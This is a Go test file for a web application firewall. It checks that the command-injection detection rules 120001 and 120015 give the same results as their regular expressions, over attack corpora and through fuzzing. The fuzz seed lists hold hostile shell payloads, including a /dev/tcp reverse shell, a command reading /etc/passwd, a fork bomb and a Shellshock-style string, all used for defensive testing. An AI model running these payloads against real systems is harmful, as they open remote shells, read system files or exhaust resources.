package inspect

import (
	"net/url"
	"regexp"
	"testing"

	"github.com/rampartsec/rampart/internal/inspect/inspecttest"
)

// sepCmdWhole is rule 120001's expression alone, as it ran before
// separatorCommand.
var sepCmdWhole = regexp.MustCompile(`(?i)` + sepCmdProgram + `|` + sepCmdID + `|` + sepCmdBrace + `|` + sepCmdDev)

// shellVariablesWhole is rule 120015's expression without the check in
// front of it.
var shellVariablesWhole = regexp.MustCompile(shellVariablesExpr)

// checkAgainstExpression fails when a rule's matcher and the expression
// it stands for disagree on s, about the verdict or the place.
func checkAgainstExpression(t *testing.T, match func(string) (int, int, bool), expr *regexp.Regexp, s string) {
	t.Helper()
	start, end, ok := match(s)
	loc := expr.FindStringIndex(s)
	if ok != (loc != nil) || ok && (start != loc[0] || end != loc[1]) {
		t.Fatalf("on %q: the matcher says %v at %d-%d, the expression %v", s, ok, start, end, loc)
	}
}

// corpusPayloads returns every payload of the attack and benign corpora
// and of the generated browsing traffic, raw and, when it decodes, URL
// decoded.
func corpusPayloads(t *testing.T) []string {
	t.Helper()
	var items []inspecttest.CorpusItem
	for _, name := range []string{"attacks.txt", "attacks_level1_crs_style.txt", "attacks_level2_crs_style.txt", "attacks_level3_crs_style.txt", "benign.txt"} {
		list, err := inspecttest.LoadCorpus("testdata/"+name, name != "benign.txt")
		if err != nil {
			t.Fatal(err)
		}
		items = append(items, list...)
	}
	items = append(items, inspecttest.BrowsingTraffic()...)
	var out []string
	for _, it := range items {
		out = append(out, it.Payload)
		if dec, err := url.QueryUnescape(it.Payload); err == nil && dec != it.Payload {
			out = append(out, dec)
		}
	}
	return out
}

// TestCheckedExpressionsAgreeOnCorpora runs the matchers that put a check
// in Go in front of an expression (rules 120001 and 120015) and their
// expressions alone on every corpus payload.
func TestCheckedExpressionsAgreeOnCorpora(t *testing.T) {
	payloads := corpusPayloads(t)
	for _, c := range []struct {
		id    string
		match func(string) (int, int, bool)
		expr  *regexp.Regexp
	}{
		{"120001", separatorCommand(), sepCmdWhole},
		{"120015", reWhen(shellVariablesMay, shellVariablesExpr), shellVariablesWhole},
	} {
		matched := 0
		for _, s := range payloads {
			checkAgainstExpression(t, c.match, c.expr, s)
			if _, _, ok := c.match(s); ok {
				matched++
			}
		}
		if matched == 0 {
			t.Errorf("rule %s: no corpus payload matched, so the corpora do not exercise it", c.id)
		}
	}
}

// FuzzSeparatorCommand holds rule 120001's matcher to the verdicts and
// places of its expression.
func FuzzSeparatorCommand(f *testing.F) {
	for _, s := range []string{
		"; ls -la", "a|whoami", "x && cat /etc/passwd", "$(id)", "foo;id", "foo;id  \n", "a\nid", "FOO;ID",
		"`uname`", "; {ls,-l}", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/DEV/UDP/x", "Step 1: open Settings; step 2: clear data;",
		"Tom & Jerry", "a;echo hi > x", "|| ping -c 1 x", "; /usr/bin/id", "said", "x;ſh", "&net user", "; dir c:\\",
	} {
		f.Add(s)
	}
	match := separatorCommand()
	f.Fuzz(func(t *testing.T, s string) { checkAgainstExpression(t, match, sepCmdWhole, s) })
}

// FuzzShellVariables holds rule 120015's matcher to the verdicts and
// places of its expression.
func FuzzShellVariables(f *testing.F) {
	for _, s := range []string{
		"$SHELL -c id", "${SHELL} -c x", "$[1+2]", "${x#y}", "<( ls )", ">(cat)", "; $a -nlvp", "$a$b$c", "$c $a$b",
		":(){ :|:& };:", "() { :; }; echo", "price (incl. tax) is 5", "see (page 2)", "costs $49.99", "{name}",
	} {
		f.Add(s)
	}
	match := reWhen(shellVariablesMay, shellVariablesExpr)
	f.Fuzz(func(t *testing.T, s string) { checkAgainstExpression(t, match, shellVariablesWhole, s) })
}
